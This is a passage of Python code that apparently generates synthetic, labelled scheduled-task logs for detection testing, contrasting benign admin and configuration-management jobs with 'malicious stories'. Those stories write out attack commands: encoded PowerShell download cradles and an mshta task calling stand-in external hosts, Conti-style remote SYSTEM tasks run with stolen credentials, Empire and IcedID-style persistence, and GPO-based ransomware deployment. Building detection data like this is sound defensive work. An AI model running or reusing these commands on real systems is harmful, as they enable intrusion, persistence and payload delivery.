    x = task_xml(t, "%s\\Endpoint Engineering" % NETBIOS, "\\Nordhafen\\DriveMapping", [trig_logon()], "wscript.exe",
                 '//B //NoLogo "%s"' % DRIVEMAP, group_id="S-1-5-32-545")
    emit(task4698(host, later(t), machine(host), "\\Nordhafen\\DriveMapping", x), benign("deploy", sc))
    u = prim(host)
    for d in sorted(rng.sample([x for x in range(day + 1, NDAYS) if (fw.START_DAY + timedelta(days=x)).weekday() < 5],
                               k=1)):
        emit(task_run(host, at(d, rng.choice([7, 8]), rng.randrange(60)), duser(u),
                      "C:\\Windows\\System32\\wscript.exe", 'wscript.exe //B //NoLogo "%s"' % DRIVEMAP,
                      "\\Nordhafen\\DriveMapping"),
             benign("deploy", "DriveMapping logon task runs wscript on the ProgramData VBS"))


# ----------------------------------------------------------------------------------------------
# Benign: admin work and Group Policy (Windows)
# ----------------------------------------------------------------------------------------------

def admin_shell(admin):
    return (CMD, '"C:\\Windows\\system32\\cmd.exe" ') if rng.random() < 0.5 else (PS, '"%s" ' % PS)


def b_paw_create(target, day, admin, kind):
    paw = rng.choice(PAW)
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    if kind == "tmsarchive":
        tn = "\\Nordhafen\\TMSArchive"
        tr = "D:\\TMS\\bin\\TmsArchive.exe --older-than 90d"
        cmd = ('schtasks.exe /Create /S %s /U %s\\%s /TN "%s" /TR "%s" /SC WEEKLY /D SAT /ST 03:00 /RU %s\\svc-tms '
               '/RP *' % (fqdn(target), NETBIOS, admin, tn, tr, NETBIOS))
        x = task_xml(t, "%s\\%s" % (NETBIOS, admin), tn, [trig_weekly(boundary(t, 3, 0), "Saturday")],
                     "D:\\TMS\\bin\\TmsArchive.exe", "--older-than 90d", user_id="%s\\svc-tms" % NETBIOS,
                     logon_type="Password")
    else:
        tn = "\\Nordhafen\\SQLErrorLogCycle"
        args = "-NoProfile -ExecutionPolicy Bypass -File D:\\Ops\\Cycle-ErrorLog.ps1"
        cmd = ('schtasks /create /s %s /tn "%s" /tr "powershell.exe %s" /sc weekly /d SUN /st 01:00 /ru SYSTEM /f'
               % (target, tn, args))
        x = task_xml(t, "%s\\%s" % (NETBIOS, admin), tn, [trig_weekly(boundary(t, 1, 0), "Sunday")], "powershell.exe",
                     args, user_id="S-1-5-18", logon_type="ServiceAccount")
    sc = "%s creates %s on %s from privileged access workstation %s" % (admin, tn, target, paw)
    pimg, pcmd = admin_shell(admin)
    emit(sched(paw, t, duser(admin), cmd, pimg, pcmd), benign("admin", sc))
    emit(task4698(target, later(t, 400, 1500), duser(admin), tn, x, remote=True), benign("admin", sc))


def b_paw_run(target, day, admin, tn):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    pimg, pcmd = admin_shell(admin)
    emit(sched(rng.choice(PAW), t, duser(admin), 'schtasks /run /s %s /tn "%s"' % (target, tn), pimg, pcmd),
         benign("admin", "%s starts %s on %s from a PAW to test it" % (admin, tn, target)))


ADMIN_LOCAL = {"/delete": ('schtasks /delete /tn "%s" /f', "%s removes the obsolete task %s on %s"),
               "/run": ('schtasks /run /tn "%s"', "%s runs %s by hand on %s while troubleshooting")}


def b_admin_local(host, day, admin, verb, tn):
    """An admin at the server console deletes or runs a task by hand."""
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    cmd, scenario = ADMIN_LOCAL[verb]
    emit(sched(host, t, duser(admin), cmd % tn, CMD, '"C:\\Windows\\system32\\cmd.exe" '),
         benign("admin", scenario % (admin, tn, host)))


def b_admin_deferred_reboot(host, day, admin):
    """An admin at the server console schedules a one-off reboot script staged in C:\\Windows\\Temp."""
    t = at(day, rng.randrange(15, 18), rng.randrange(60))
    cmd = ('schtasks /create /tn "Nordhafen\\DeferredReboot" /tr "C:\\Windows\\Temp\\reboot-after-kb.cmd" /sc once '
           '/st 22:00 /ru SYSTEM /f')
    emit(sched(host, t, duser(admin), cmd, CMD, '"C:\\Windows\\system32\\cmd.exe" '),
         benign("admin", "%s schedules a one-off reboot script from C:\\Windows\\Temp on %s" % (admin, host)))


def b_admin_ps_register(host, day, admin):
    t = at(day, rng.randrange(10, 17), rng.randrange(60))
    sc = "%s registers \\Nordhafen\\DbaToolsBackupCheck with Register-ScheduledTask on %s" % (admin, host)
    emit(dict(kind="script_task", host=host, time=t, user=duser(admin), image=PS, pid=fw.win_pid(),
              cmdline='"%s" -NoProfile -File "C:\\Ops\\Register-BackupCheck.ps1"' % PS,
              parent_image="C:\\Windows\\explorer.exe", task_key=det_guid("dbat", host)),
         benign("admin", sc))
    x = task_xml(t, "%s\\%s" % (NETBIOS, admin), "\\Nordhafen\\DbaToolsBackupCheck", [trig_daily(boundary(t, 6, 15))],
                 "pwsh.exe", "-NoProfile -File C:\\Ops\\Test-LastBackup.ps1", workdir="C:\\Ops",
                 user_id="%s\\svc-sqlagent" % NETBIOS, logon_type="Password")
    emit(task4698(host, later(t, 300, 900), duser(admin), "\\Nordhafen\\DbaToolsBackupCheck", x), benign("admin", sc))


# Recurring in-house or agent jobs: hour, run-as, image, command line, task, integrity, cause, scenario
JOB_RUNS = {
    "veeam": (22, SYSTEM, "C:\\Windows\\System32\\cscript.exe",
              'cscript.exe //nologo "C:\\ProgramData\\Veeam\\Scripts\\post-job-notify.vbs"',
              "\\Nordhafen\\VeeamPostJobNotify", "system", "mgmt",
              "Veeam post-job notification task runs cscript (backup agent script)"),
    "bitsadmin": (5, duser("svc-tms"), "C:\\Windows\\System32\\bitsadmin.exe",
                  "bitsadmin.exe /transfer TmsRates /download /priority normal https://hh-tms-01.%s/rates/current.zip "
                  "D:\\TMS\\import\\rates.zip" % DOMAIN, "\\Nordhafen\\TMSRatePull", "high", "mgmt",
                  "legacy \\Nordhafen\\TMSRatePull task downloads rate tables from hh-tms-01 with bitsadmin"),
    "pnputil": (4, SYSTEM, "C:\\Windows\\System32\\pnputil.exe",
                "pnputil.exe /add-driver \\\\hh-print-01\\drivers$\\Kyocera\\*.inf /subdirs /install",
                "\\Nordhafen\\PrinterDriverStaging", "system", "mgmt",
                "print team's \\Nordhafen\\PrinterDriverStaging task stages drivers with pnputil"),
}


def b_job_run(host, day, job):
    hour, user, image, cmdline, task, integrity, cause, scenario = JOB_RUNS[job]
    emit(task_run(host, at(day, hour, rng.randrange(0, 30)), user, image, cmdline, task, integrity=integrity),
         benign(cause, scenario))


GPO_WKS = "{8E2A4C61-0B9D-4F37-A5E2-1C6D9B3F7A40}"
GPO_SRV = "{31F7D0A2-6C4E-4B18-9D5A-E07B2C8F6193}"


gpo_paths = fw.gpo_paths  # the framework reads DOMAIN at call time


def b_gpo_edit_local(dc, day, admin, gpo):
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    rel, full = gpo_paths(gpo)
    sc = "%s edits GPP scheduled tasks of GPO %s in GPMC on the DC (loopback source)" % (admin, gpo)
    emit(share5145(dc, t, duser(admin), rng.choice(["::1", "127.0.0.1"]), rel), benign("gpo", sc))
    emit(wfile(dc, later(t, 20, 80), duser(admin), full, None, pid=4), benign("gpo", sc))


def b_gpo_edit_paw(dc, day, admin, gpo):
    """GPMC on a PAW writes through SYSVOL: the 5145 source is the PAW, not localhost."""
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    rel, full = gpo_paths(gpo)
    paw = rng.choice(PAW)
    sc = "%s edits GPP scheduled tasks of GPO %s in GPMC on %s (remote source, sanctioned change)" % (admin, gpo, paw)
    emit(share5145(dc, t, duser(admin), HOSTS[paw]["ip"], rel), benign("gpo_remote", sc))
    emit(wfile(dc, later(t, 20, 80), duser(admin), full, None, pid=4), benign("gpo_remote", sc))


PRINTERS_VBS = "\\\\%s\\NETLOGON\\Printers\\Map-Printers.vbs" % DOMAIN


def b_gpp_printers(host, day):
    t = at(day, rng.randrange(7, 10), rng.randrange(60))
    x = task_xml(t, "%s\\a-jhansen" % NETBIOS, "\\Nordhafen-PrinterMapping", [trig_logon()], "cscript.exe",
                 '//nologo "%s"' % PRINTERS_VBS, group_id="S-1-5-32-545")
    emit(task4698(host, t, machine(host), "\\Nordhafen-PrinterMapping", x),
         benign("gpo", "Group Policy Preferences (GPO Workstation-Baseline) creates Nordhafen-PrinterMapping"))
    if rng.random() < 0.5:
        emit(task_run(host, t + timedelta(minutes=rng.randrange(1, 50)), duser(prim(host)),
                      "C:\\Windows\\System32\\cscript.exe", 'cscript.exe //nologo "%s"' % PRINTERS_VBS,
                      "\\Nordhafen-PrinterMapping"),
             benign("gpo", "Nordhafen-PrinterMapping logon task runs cscript from NETLOGON"))


# ----------------------------------------------------------------------------------------------
# Benign: Linux
# ----------------------------------------------------------------------------------------------

def py_for(host):
    return {"ubuntu24": "/usr/bin/python3.12", "ubuntu22": "/usr/bin/python3.10", "alma": "/usr/bin/python3.9",
            "debian": "/usr/bin/python3.11"}[HOSTS[host]["family"]]


def b_dpkg(host, day, pkg, path):
    t = at(day, rng.choice([6, 6, 7, 19]), rng.randrange(60))
    uu = rng.random() < 0.75
    par = (py_for(host), "/usr/bin/python3 /usr/bin/unattended-upgrade") if uu else \
        ("/usr/bin/apt-get", "apt-get -y upgrade")
    emit(lfile(host, t, "root", path, "/usr/bin/dpkg",
               "/usr/bin/dpkg --status-fd 35 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/%s" % pkg,
               par[0], par[1], action="rename"),
         benign("pkg", "%s: dpkg installs %s (%s)" % ("unattended-upgrades" if uu else "apt-get upgrade",
                                                      pkg.split("_")[0], path)))


def b_dnf(host, day, path, pkg):
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    emit(lfile(host, t, "root", path, "/usr/bin/python3.9", "/usr/bin/python3 /usr/bin/dnf -y upgrade --security",
               "/usr/bin/sudo", "sudo dnf -y upgrade --security", action="rename", name="dnf"),
         benign("pkg", "dnf security upgrade of %s installs %s" % (pkg, path)))


def b_logrotate_reload(host, day, svc):
    t = at(day, 0, rng.randrange(0, 3))
    emit(lproc(host, t, "root", "/usr/bin/systemctl", "systemctl --quiet reload %s.service" % svc, "/usr/bin/sh",
               "/bin/sh /usr/sbin/invoke-rc.d %s reload" % svc),
         benign("auto", "logrotate postrotate reloads %s (cron.daily/logrotate timer)" % svc))


SALT_PY = "/opt/saltstack/salt/bin/python3.10"


def b_salt_crontab(host, day):
    """Salt cron.present writes the crontab through a temp file in /tmp and `crontab -u root <file>`."""
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    tmp = "/tmp/__salt.tmp.%s" % rand_letters("salttmp", host, day, n=8)
    sc = "Salt highstate (cron.present) installs root crontab entries via %s" % tmp
    emit(lfile(host, t, "root", "/var/spool/cron/crontabs/root" if HOSTS[host]["family"] != "alma" else
               "/var/spool/cron/root", "/usr/bin/crontab", "crontab -u root %s" % tmp, SALT_PY,
               "%s /usr/bin/salt-minion" % SALT_PY, action="rename"), benign("cm", sc))


def b_salt_cron_file(host, day, name):
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    emit(lfile(host, t, "root", "/etc/cron.d/" + name, SALT_PY, "%s /usr/bin/salt-minion" % SALT_PY, SALT_PY,
               "%s /usr/bin/salt-minion" % SALT_PY, action="rename", name="python3.10"),
         benign("cm", "Salt highstate (file.managed) deploys /etc/cron.d/%s" % name))


def b_salt_restart(host, day, svc):
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    emit(lproc(host, t, "root", "/usr/bin/systemctl", "systemctl restart %s.service" % svc, SALT_PY,
               "%s /usr/bin/salt-minion" % SALT_PY),
         benign("cm", "Salt service.running (watch) restarts %s after a config change" % svc))


def b_salt_at_allow(host, day):
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    emit(lfile(host, t, "root", "/etc/at.allow", SALT_PY, "%s /usr/bin/salt-minion" % SALT_PY, SALT_PY,
               "%s /usr/bin/salt-minion" % SALT_PY, action="rename", name="python3.10"),
         benign("cm", "Salt CIS-hardening state writes /etc/at.allow (root only)"))


CHEF_RUBY = "/opt/chef/embedded/bin/ruby"


def b_chef_units(host, day):
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    sc = "chef-client (edi cookbook) installs and enables edi-poller.service/.timer"
    for i, ext in enumerate(("service", "timer")):
        emit(lfile(host, t + timedelta(seconds=i), "root", "/etc/systemd/system/edi-poller.%s" % ext, CHEF_RUBY,
                   "%s --disable-gems /usr/bin/chef-client -d -c /etc/chef/client.rb" % CHEF_RUBY, CHEF_RUBY,
                   "/usr/bin/chef-client", action="rename", name="ruby"), benign("cm", sc))
    emit(lproc(host, t + timedelta(seconds=4), "root", "/usr/bin/systemctl", "/usr/bin/systemctl enable --now "
               "edi-poller.timer", CHEF_RUBY, "%s --disable-gems /usr/bin/chef-client" % CHEF_RUBY), benign("cm", sc))


def b_chef_cron(host, day):
    t = at(day, rng.randrange(0, 24), rng.randrange(60))
    emit(lfile(host, t, "root", "/etc/cron.d/chef-client", CHEF_RUBY,
               "%s --disable-gems /usr/bin/chef-client -d -c /etc/chef/client.rb" % CHEF_RUBY, CHEF_RUBY,
               "/usr/bin/chef-client", action="rename", name="ruby"),
         benign("cm", "chef-client (chef_client_cron resource) rewrites /etc/cron.d/chef-client"))


def b_admin_crontab_e(host, day, admin):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    user = admin[2:]
    spool = "/var/spool/cron/" if HOSTS[host]["family"] == "alma" else "/var/spool/cron/crontabs/"
    sc = "%s edits root's crontab with sudo crontab -e on %s" % (user, host)
    emit(lproc(host, t, "root", "/usr/bin/crontab", "crontab -e", "/usr/bin/sudo", "sudo crontab -e"),
         benign("admin", sc))
    emit(lfile(host, t + timedelta(seconds=rng.randrange(30, 200)), "root", spool + "root", "/usr/bin/crontab",
               "crontab -e", "/usr/bin/sudo", "sudo crontab -e", action="rename"), benign("admin", sc))


def b_admin_vim_cron(host, day, admin, name):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    user = admin[2:]
    sc = "%s edits /etc/cron.d/%s with sudo vim on %s" % (user, name, host)
    emit(lproc(host, t, "root", "/usr/bin/vim.basic", "vim /etc/cron.d/%s" % name, "/usr/bin/sudo",
               "sudo vim /etc/cron.d/%s" % name), benign("admin", sc))
    emit(lfile(host, t + timedelta(seconds=rng.randrange(40, 300)), "root", "/etc/cron.d/" + name, "/usr/bin/vim.basic",
               "vim /etc/cron.d/%s" % name, "/usr/bin/sudo", "sudo vim /etc/cron.d/%s" % name, action="rename"),
         benign("admin", sc))


def b_admin_echo_cron(host, day, admin):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    line = "15 2 * * * postgres /usr/local/bin/pg_dump_rotate.sh >/var/log/pg_dump_rotate.log 2>&1"
    cmd = "bash -c echo '%s' >> /etc/cron.d/pg-dump" % line
    sc = "%s appends the pg_dump rotation job to /etc/cron.d/pg-dump on %s" % (admin[2:], host)
    emit(lproc(host, t, "root", "/usr/bin/bash", cmd, "/usr/bin/sudo", "sudo bash -c"), benign("admin", sc))


def b_admin_at(host, day, admin):
    t = at(day, rng.randrange(15, 18), rng.randrange(60))
    sc = "%s queues a one-off rsync after hours with at 22:00" % admin[2:]
    emit(lproc(host, t, "root", "/usr/bin/at", "at 22:00", "/usr/bin/bash", "-bash"), benign("admin", sc))
    emit(lfile(host, later(t, 10, 60), "root", "/var/spool/cron/atjobs/a%05x%s" % (rng.randrange(1, 300),
               det_hex("atj", host, day, n=8)), "/usr/bin/at", "at 22:00", "/usr/bin/bash", "-bash"),
         benign("admin", sc))


def b_admin_restart(host, day, svc, admin):
    t = at(day, rng.randrange(8, 20), rng.randrange(60))
    verb = rng.choice(["restart", "reload", "restart", "start"])
    emit(lproc(host, t, "root", "/usr/bin/systemctl", "systemctl %s %s" % (verb, svc), "/usr/bin/sudo",
               "sudo systemctl %s %s" % (verb, svc)),
         benign("admin", "%s runs systemctl %s %s" % (admin[2:], verb, svc)))


def b_jenkins_cron(host, day):
    """The Jenkins host's housekeeping user re-installs its crontab from the checked-out repo every night."""
    t = at(day, 0, 10, rng.randrange(1, 9))
    emit(lproc(host, t, "jenkins", "/usr/bin/crontab", "crontab /var/lib/jenkins/ops-housekeeping/crontab",
               "/usr/sbin/cron", "/usr/sbin/cron -f -P"),
         benign("auto", "jenkins housekeeping cron job re-installs its crontab from the ops repo checkout"))


# ----------------------------------------------------------------------------------------------
# Benign: Kubernetes (cluster k8s-prod-hh)
# ----------------------------------------------------------------------------------------------

KUBECTL_UA = "kubectl/v1.32.2 (linux/amd64) kubernetes/67a30c0"
JENKINS_SA = "system:serviceaccount:jenkins:jenkins-deployer"
JENKINS_GROUPS = "system:serviceaccounts\nsystem:serviceaccounts:jenkins\nsystem:authenticated"


def sa_groups(ns):
    return "system:serviceaccounts\nsystem:serviceaccounts:%s\nsystem:authenticated" % ns


# who creates CronJobs: user, source address, user agent, groups, scenario
K8S_CLIENTS = {
    "jenkins": (JENKINS_SA, HOSTS["hh-lx-jenkins01"]["ip"], KUBECTL_UA, JENKINS_GROUPS,
                "Jenkins deploy pipeline (jenkins-deployer SA, kubectl apply) creates CronJob %s/%s"),
    "argocd": ("system:serviceaccount:argocd:argocd-application-controller", "10.88.3.17",
               "argocd-application-controller/v2.14.2+ad6cbc0 (linux/amd64) kubernetes/$Format", sa_groups("argocd"),
               "Argo CD sync creates CronJob %s/%s"),
    "fleet": ("system:serviceaccount:cattle-fleet-system:fleet-agent", "10.88.1.44",
              "fleetagent/v0.11.4 (linux/amd64) kubernetes/$Format", sa_groups("cattle-fleet-system"),
              "Rancher Fleet bundle deployment creates CronJob %s/%s"),
}


def b_k8s(day, ns, name, schedule, image, via):
    user, ip, ua, groups, scenario = K8S_CLIENTS[via]
    t = at(day, rng.randrange(8, 20), rng.randrange(60))
    emit(k8s(t, user, ip, ua, ns, name, schedule, image, None, groups), benign("k8s", scenario % (ns, name)))


# ----------------------------------------------------------------------------------------------
# Malicious stories
# ----------------------------------------------------------------------------------------------

def m_atomic_windows():
    """Atomic Red Team T1053.005 tests #1, #2, #3 and #7 (default arguments) run by a developer without a ticket."""
    host, u = "hh-nb-117", prim("hh-nb-117")
    t = at(3, 15, 12)
    sc = "Unsanctioned Atomic Red Team run on hh-nb-117 (%s)"
    tests = [
        ("T1053.005-1", 'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"'),
        ("T1053.005-1", 'schtasks /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe"'),
        ("T1053.005-2", "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10"),
        ("T1053.005-3", 'SCHTASKS /Create /S localhost /RU DOMAIN\\user /RP At0micStrong /TN "Atomic task" '
                        '/TR "C:\\windows\\system32\\cmd.exe" /SC daily /ST 20:10'),
        ("T1053.005-7", 'schtasks.exe /Create /F /TN "ATOMIC-T1053.005" /TR "cmd /c start /min \\"\\" powershell.exe '
                        '-Command IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('
                        '(Get-ItemProperty -Path HKCU:\\\\SOFTWARE\\\\ATOMIC-T1053.005).test)))" /sc daily /st 07:45'),
    ]
    for tid, cmd in tests:
        t = t + timedelta(seconds=rng.randrange(8, 40), milliseconds=rng.randrange(900))
        emit(sched(host, t, duser(u), cmd, CMD, '"C:\\Windows\\system32\\cmd.exe" /c ' + cmd), bad(sc % tid))
    t = t + timedelta(seconds=50)
    for tn in ("T1053_005_OnLogon", "T1053_005_OnStartup", "spawn", "Atomic task", "ATOMIC-T1053.005"):
        t = t + timedelta(seconds=rng.randrange(1, 4))
        emit(sched(host, t, duser(u), 'schtasks /delete /tn "%s" /f' % tn, CMD,
                   '"C:\\Windows\\system32\\cmd.exe" /c schtasks /delete /tn "%s" /f >nul 2>&1' % tn),
             bad(sc % "cleanup"))


def m_at_interactive():
    host = "hh-legacy-01"
    t = at(3, 15, 40)
    emit(proc(host, t, duser("a-sokoro"), "C:\\Windows\\System32\\at.exe", "at 13:20 /interactive cmd", CMD,
              '"C:\\Windows\\system32\\cmd.exe" /c at 13:20 /interactive cmd'),
         bad("Unsanctioned Atomic Red Team run on hh-legacy-01 (T1053.002-1, at /interactive)"))


def m_conti_remote():
    """Conti-playbook style lateral movement: stolen a-mvisser credentials used from a finance desktop to create
    and run SYSTEM tasks on servers (/sd 01/01/1970 /st 00:00, payload in ProgramData)."""
    src = "hh-pc-204"
    base = at(6, 1, 14)
    for i, target in enumerate(("hh-fs-01", "hh-sql-01", "hh-veeam-01")):
        t = base + timedelta(minutes=4 * i, seconds=rng.randrange(60))
        ip = HOSTS[target]["ip"]
        tn = "WindowsSensor%d" % (15 + i)
        sc = "Conti-style: remote SYSTEM task %s on %s from %s with stolen a-mvisser credentials" % (tn, target, src)
        cmd = ('SCHTASKS /s %s /RU "SYSTEM" /create /tn "%s" /tr "cmd.exe /c C:\\ProgramData\\P32.exe" /sc ONCE '
               '/sd 01/01/1970 /st 00:00' % (ip, tn))
        emit(sched(src, t, duser("a-mvisser"), cmd, CMD, '"C:\\Windows\\system32\\cmd.exe" '), bad(sc))
        x = task_xml(t, "%s\\a-mvisser" % NETBIOS, "\\" + tn, [trig_once("1970-01-01T00:00:00")], "cmd.exe",
                     "/c C:\\ProgramData\\P32.exe", user_id="S-1-5-18", logon_type="ServiceAccount")
        emit(task4698(target, later(t, 500, 1400), duser("a-mvisser"), "\\" + tn, x, remote=True), bad(sc))
        emit(sched(src, t + timedelta(seconds=rng.randrange(10, 40)), duser("a-mvisser"),
                   'SCHTASKS /s %s /run /TN "%s"' % (ip, tn), CMD, '"C:\\Windows\\system32\\cmd.exe" '), bad(sc))


def m_paw_hijack():
    """An attacker with an RDP session on hh-paw-02 uses a-jhansen's session: same host and admin as the benign
    remote tasks, but the action is an encoded PowerShell download cradle."""
    t = at(7, 23, 48)
    enc = ps_enc("IEX (New-Object Net.WebClient).DownloadString('https://203.0.113.77/cdn/agent.ps1')")
    tn = "\\Nordhafen\\SQLErrorLogCycle2"
    cmd = ('schtasks /create /s hh-sql-02 /tn "%s" /tr "powershell.exe -NoP -NonI -W Hidden -enc %s" /sc onstart '
           '/ru SYSTEM /f' % (tn, enc))
    sc = "hijacked a-jhansen session on hh-paw-02: remote boot task with encoded download cradle on hh-sql-02"
    emit(sched("hh-paw-02", t, duser("a-jhansen"), cmd, PS, '"%s" ' % PS), bad(sc))
    x = task_xml(t, "%s\\a-jhansen" % NETBIOS, tn, [trig_boot()], "powershell.exe", "-NoP -NonI -W Hidden -enc " + enc,
                 user_id="S-1-5-18", logon_type="ServiceAccount")
    emit(task4698("hh-sql-02", later(t, 400, 1200), duser("a-jhansen"), tn, x, remote=True), bad(sc))


def m_icedid(host, day):
    """IcedID-style: the loader registers (COM) a logon + hourly task running rundll32 on a DLL in AppData\\Roaming."""
    u = prim(host)
    t = at(day, rng.randrange(9, 16), rng.randrange(60))
    folder = "{%s}" % det_uuid("icedid-dir", host).upper()
    dll = "C:\\Users\\%s\\AppData\\Roaming\\%s\\%s.dll" % (u, folder, rand_letters("icedll", host, n=8, upper_first=True))
    tn = "\\%s" % rand_letters("icedtn", host, n=7, upper_first=True)
    args = '"%s",#1 --id="%s"' % (dll, rand_letters("iceid", host, n=10))
    sc = "IcedID-style persistence on %s: logon task runs rundll32 on an AppData\\Roaming DLL" % host
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), tn, [trig_logon("%s\\%s" % (NETBIOS, u)),
                                                   trig_repeat(boundary(t, t.hour, t.minute, 0), "PT1H")],
                 "rundll32.exe", args, user_id=usid(u), logon_type="InteractiveToken")
    emit(task4698(host, t, duser(u), tn, x), bad(sc))
    emit(task_run(host, t + timedelta(hours=1, seconds=rng.randrange(2, 30)), duser(u),
                  "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe " + args, tn),
         bad("IcedID-style task on %s runs rundll32 on the AppData\\Roaming DLL" % host))


def m_fake_updater(host, day):
    """A loader masquerading as Google Update: binary in C:\\Users\\Public\\Libraries, onlogon SYSTEM task."""
    u = prim(host)
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    exe = "C:\\Users\\Public\\Libraries\\GoogleUpdate.exe"
    sc = "fake Google updater in C:\\Users\\Public\\Libraries creates GoogleUpdateTaskMachineQC (onlogon, SYSTEM)"
    cmd = ('schtasks /create /tn "GoogleUpdateTaskMachineQC" /tr "%s /c" /sc onlogon /ru SYSTEM /rl highest /f' % exe)
    emit(sched(host, t, duser(u), cmd, exe, '"%s" /install' % exe, parent_trusted=False, parent_signer=None), bad(sc))
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\GoogleUpdateTaskMachineQC", [trig_logon()], exe, "/c",
                 user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698(host, later(t), duser(u), "\\GoogleUpdateTaskMachineQC", x), bad(sc))


def m_fake_adobe(host, day):
    """PowerShell stager registers 'Adobe Acrobat Update Task' pointing at a copy in ProgramData, mshta action."""
    u = prim(host)
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    url = "https://198.51.100.61/acr/upd.hta"
    sc = "loader masquerading as Adobe updater on %s: daily 'Adobe Acrobat Update Task ' runs mshta on a remote HTA" % host
    cmd = 'schtasks /create /tn "Adobe Acrobat Update Task " /tr "mshta.exe %s" /sc daily /st 10:05 /f' % url
    emit(sched(host, t, duser(u), cmd, PS,
               '"%s" -nop -w hidden -c "schtasks /create /tn \'Adobe Acrobat Update Task \' /tr \'mshta.exe %s\' '
               '/sc daily /st 10:05 /f"' % (PS, url), integrity="medium"), bad(sc))
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\Adobe Acrobat Update Task ", [trig_daily(boundary(t, 10, 5))],
                 "mshta.exe", url, user_id=usid(u), logon_type="InteractiveToken")
    emit(task4698(host, later(t), duser(u), "\\Adobe Acrobat Update Task ", x), bad(sc))
    for d in (day + 1, day + 2):
        if d < NDAYS:
            emit(task_run(host, at(d, 10, 5, rng.randrange(0, 9)), duser(u), "C:\\Windows\\System32\\mshta.exe",
                          '"C:\\Windows\\system32\\mshta.exe" %s' % url, "\\Adobe Acrobat Update Task ",
                          original="MSHTA.EXE"),
                 bad("fake 'Adobe Acrobat Update Task' on %s runs mshta against %s" % (host, url)))


def m_empire():
    """PowerShell Empire persistence/elevated/schtasks on hh-rds-01 (default task name Updater, payload in HKLM)."""
    host = "hh-rds-01"
    t = at(9, 2, 41)
    cmd = ('schtasks /Create /F /RU system /SC DAILY /ST 09:00 /TN Updater /TR "powershell.exe -NonI -W hidden -c '
           '\\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String($(gp \'HKLM:\\Software\\Microsoft\\'
           'Network\' debug).debug)))\\""')
    emit(sched(host, t, duser("a-lbrandt"), cmd, PS, '"%s" -NoP -sta -NonI -W Hidden -Enc %s' % (
        PS, ps_enc("$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0';$wc.Headers.Add('User-Agent',$u);"
                   "IEX $wc.DownloadString('https://203.0.113.44:443/login/process.php')"))),
         bad("PowerShell Empire elevated schtasks persistence (TN Updater, payload in HKLM) on hh-rds-01"))


def m_tarrask():
    """HAFNIUM Tarrask-style: SYSTEM registers a task under a Microsoft path that launches a ProgramData binary."""
    host = "hh-tms-02"
    t = at(9, 3, 12)
    tn = "\\Microsoft\\Windows\\WDI\\WinUpdate"
    x = task_xml(t, None, tn, [trig_boot(), trig_repeat(boundary(t, 3, 15, 0), "PT30M")], "cmd.exe",
                 '/c "C:\\ProgramData\\Microsoft\\Crypto\\RSA\\winupdate.exe"', user_id="S-1-5-18",
                 logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698(host, t, machine(host), tn, x),
         bad("Tarrask-style task \\Microsoft\\Windows\\WDI\\WinUpdate registered by SYSTEM on hh-tms-02"))


def m_gpo_ransom():
    """LockBit/CaddyWiper-style deployment through GPO: ScheduledTasks.xml of the workstation GPO written from a
    compromised application server with a-lbrandt's credentials; the immediate task lands on workstations."""
    t = at(10, 4, 2)
    rel, full = gpo_paths(GPO_WKS)
    ip = HOSTS["hh-tms-02"]["ip"]
    sc = "GPO ransomware deployment: workstation GPO ScheduledTasks.xml written from hh-tms-02 (%s)" % ip
    emit(share5145("hh-dc-01", t, duser("a-lbrandt"), ip, rel), bad(sc))
    emit(wfile("hh-dc-01", later(t, 20, 80), duser("a-lbrandt"), full, None, pid=4), bad(sc))
    for h in rng.sample([w for w in WKS if w.startswith("hh-")], 7):
        tt = t + timedelta(minutes=rng.randrange(15, 90), seconds=rng.randrange(60))
        x = task_xml(tt, "%s\\a-lbrandt" % NETBIOS, "\\Nordhafen-Update", [trig_once(boundary(tt, 0, 0, 0))], "cmd.exe",
                     "/c copy /y \\\\hh-tms-02\\c$\\ProgramData\\svc.exe C:\\ProgramData\\svc.exe & "
                     "C:\\ProgramData\\svc.exe -pass 7d41f0", user_id="S-1-5-18", logon_type="ServiceAccount",
                     run_level="HighestAvailable")
        emit(task4698(h, tt, machine(h), "\\Nordhafen-Update", x),
             bad("GPO ransomware deployment: immediate task Nordhafen-Update lands on %s" % h))


def m_atexec(src_user):
    """NetExec --exec-method atexec from a compromised workstation against two servers."""
    for j, (target, recon) in enumerate((("rt-fs-01", "whoami /all"), ("rt-edi-01", "ipconfig /all"))):
        t = at(11, 2, 5 + 7 * j)
        name = "\\" + rand_letters("nxc", target, n=8)
        sc = "atexec-style remote task on %s (random name, output to Windows\\Temp, deleted at once)" % target
        x = task_xml(t, None, name, [trig_once("2015-07-15T20:35:13")], "cmd.exe",
                     "/C %s > C:\\Windows\\Temp\\%s.tmp 2>&1" % (recon, name[1:]), user_id="S-1-5-18",
                     logon_type=None, run_level="HighestAvailable", principal_id="LocalSystem")
        c = task4698(target, t, duser(src_user), name, x, remote=True)
